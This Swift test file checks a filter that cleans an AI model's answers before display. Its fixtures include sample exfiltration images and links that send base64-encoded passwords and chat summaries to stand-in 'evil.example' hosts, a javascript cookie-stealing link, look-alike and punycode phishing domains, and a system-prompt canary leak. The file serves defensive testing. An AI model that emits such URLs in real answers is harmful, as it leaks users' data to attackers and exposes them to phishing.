import Testing

@testable import BulwarkShield

@Suite struct LinkInspectorTests {
    let inspector = LinkInspector(allowedHosts: ["cdn.acme.example", "acme.example"], canaries: ["CANARY-7f3a9c"])

    @Test func markdownImageCarryingDataIsNeutralized() {
        let answer = "Done! ![status](https://collect.evil.example/p.png?d=SGVsbG8gc2VjcmV0IHBhc3N3b3Jk) Bye."
        let result = inspector.inspect(answer)
        #expect(!result.text.contains("collect.evil.example/p.png"))
        #expect(result.text.contains("[image removed: status (collect.evil.example)]"))
        #expect(
            result.findings.contains(
                LinkFinding(kind: .imageExfiltration, host: "collect.evil.example", neutralized: true)
            )
        )
        #expect(result.status == .complete)
    }

    @Test func allowListedImagesPass() {
        let answer =
            "Logo: ![logo](https://cdn.acme.example/logo.png?v=20240101abcdef12345) and ![x](https://img.acme.example/a.png)"
        let result = inspector.inspect(answer)
        #expect(result.text == answer)
        #expect(result.findings.isEmpty)
    }

    @Test func imagesFromUnlistedHostsAreNeutralizedEvenWithoutData() {
        let result = inspector.inspect("![cat](https://images.example.org/cat.png)")
        #expect(result.text == "[image removed: cat (images.example.org)]")
        #expect(result.findings.map(\.kind) == [.unlistedImageHost])
    }

    @Test func referenceImagesAndDataCarryingDefinitionsAreNeutralized() {
        let answer = "Sure ![Data][ref]\n\n[ref]: https://wuzzi.example/logo.png?q=c3VtbWFyeSBvZiB0aGUgY2hhdA\n"
        let result = inspector.inspect(answer)
        #expect(!result.text.contains("wuzzi.example/logo.png"))
        #expect(result.findings.contains { $0.kind == .referenceImage })
        #expect(result.findings.contains { $0.kind == .linkExfiltration })
    }

    @Test func htmlImageTagsAreNeutralized() {
        let result = inspector.inspect("<img src=\"https://x.evil.example/t.gif?u=alice%40corp.example%20pw\"> ok")
        #expect(!result.text.contains("x.evil.example/t.gif"))
        #expect(result.findings.contains { $0.kind == .imageExfiltration })
    }

    static let dangerousLinks: [(String, LinkFinding.Kind)] = [
        ("[portal](http://203.0.113.9/login)", .ipLiteralHost),
        ("[portal](http://1113982867/)", .ipLiteralHost),
        ("[bank](https://xn--pypal-4ve.com/)", .internationalizedHost),
        ("[bank](https://pаypal.com/)", .lookAlikeHost),
        ("[short](https://bit.ly/3xYz)", .urlShortener),
        ("[click](javascript:alert(document.cookie))", .dangerousScheme),
        ("[file](data:text/html;base64,PHNjcmlwdD4=)", .dangerousScheme),
        ("[paypal.com](https://paypa1-secure.example/login)", .mismatchedLinkText),
        ("[login](https://acme.example@evil.example/)", .credentialsInURL),
        ("[report](https://drop.evil.example/c?data=QWxpY2UgU21pdGggc2FsYXJ5IDEyMGs)", .linkExfiltration),
    ]

    @Test(arguments: dangerousLinks)
    func dangerousLinksAreNeutralized(_ example: (String, LinkFinding.Kind)) {
        let result = inspector.inspect("See \(example.0) now.")
        #expect(result.findings.contains { $0.kind == example.1 && $0.neutralized }, "\(result.findings)")
        #expect(result.text.contains("[link removed: "))
        #expect(!result.text.contains("]("))
    }

    @Test func ordinaryLinksAndTextAreKept() {
        let answer =
            "Read [the docs](https://www.swift.org/documentation/) or https://acme.example/help?topic=billing-faq-and-invoices. [1] is a citation."
        let result = inspector.inspect(answer)
        #expect(result.text == answer)
        #expect(result.findings.isEmpty)
    }

    @Test func bareURLCarryingDataIsNeutralized() {
        let result = inspector.inspect("Open https://paste.evil.example/?s=am9obkBhY21lLmV4YW1wbGUgcGFzc3dvcmQ= please")
        #expect(result.text == "Open [link removed: link_exfiltration (paste.evil.example)] please")
    }

    @Test func systemPromptCanaryIsRedacted() {
        let result = inspector.inspect("My instructions begin with CANARY-7f3a9c and then say…")
        #expect(!result.text.contains("CANARY-7f3a9c"))
        #expect(result.findings.contains { $0.kind == .canaryLeak })
    }

    @Test func oversizedAnswerIsReportedAsNotRun() {
        let small = LinkInspector(maxInputBytes: 16)
        let result = small.inspect("![x](https://evil.example/?d=secretsecretsecret)")
        #expect(!result.status.ran)
    }

    // MARK: streaming

    func stream(
        _ chunks: [String],
        _ inspector: LinkInspector,
        window: Int = 4096
    ) -> (text: String, parts: [String], findings: [LinkFinding]) {
        var s = StreamingAnswerInspector(inspector: inspector, window: window)
        var parts = chunks.map { s.feed($0) }
        parts.append(s.finish())
        return (parts.joined(), parts, s.findings)
    }

    @Test func exfiltratingImageSplitAtEveryPointIsNeutralized() {
        let answer =
            "Here is the summary. ![chart](https://evil.example/c.png?d=QWxpY2UncyBwYXNzd29yZCBpcyBodW50ZXIy) Thanks!"
        let expected = inspector.inspect(answer).text
        let bytes = Array(answer.utf8)
        for cut in 1..<bytes.count {
            let a = String(decoding: bytes[..<cut], as: UTF8.self)
            let b = String(decoding: bytes[cut...], as: UTF8.self)
            let r = stream([a, b], inspector)
            #expect(r.text == expected, "cut at \(cut)")
            #expect(!r.parts.contains { $0.contains("evil.example/c.png") || $0.contains("](https") })
            #expect(r.findings.contains { $0.kind == .imageExfiltration })
        }
    }

    @Test func imageStreamedOneCharacterAtATimeIsNeutralized() {
        let answer = "Ok ![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgaGVyZQ) [docs](https://acme.example/d) end"
        let r = stream(answer.map { String($0) }, inspector)
        #expect(r.text == inspector.inspect(answer).text)
        #expect(!r.text.contains("evil.example/p.png"))
        #expect(r.text.contains("[docs](https://acme.example/d)"))
    }

    @Test func plainTextIsPassedThroughWithoutDelay() {
        var s = StreamingAnswerInspector(inspector: inspector)
        #expect(s.feed("The quarterly numbers look good. ") == "The quarterly numbers look good. ")
        #expect(s.feed("Revenue grew 4% (see table). ") == "Revenue grew 4% (see table). ")
        #expect(s.finish() == "")
    }

    @Test func constructLongerThanTheWindowIsEscapedNotRendered() {
        let long = "![" + String(repeating: "a", count: 300)
        let r = stream([long, "](https://evil.example/x.png?d=abcdefabcdefabcdef)"], inspector, window: 64)
        #expect(r.text.hasPrefix("!\\["))
        #expect(r.findings.contains { $0.kind == .oversizedConstruct })
    }

    @Test func canarySplitAcrossChunksIsRedacted() {
        let r = stream(["The secret is CANA", "RY-7f", "3a9c, sorry."], inspector)
        #expect(!r.text.contains("CANARY-7f3a9c"))
        #expect(r.text.contains("[redacted]"))
    }
}
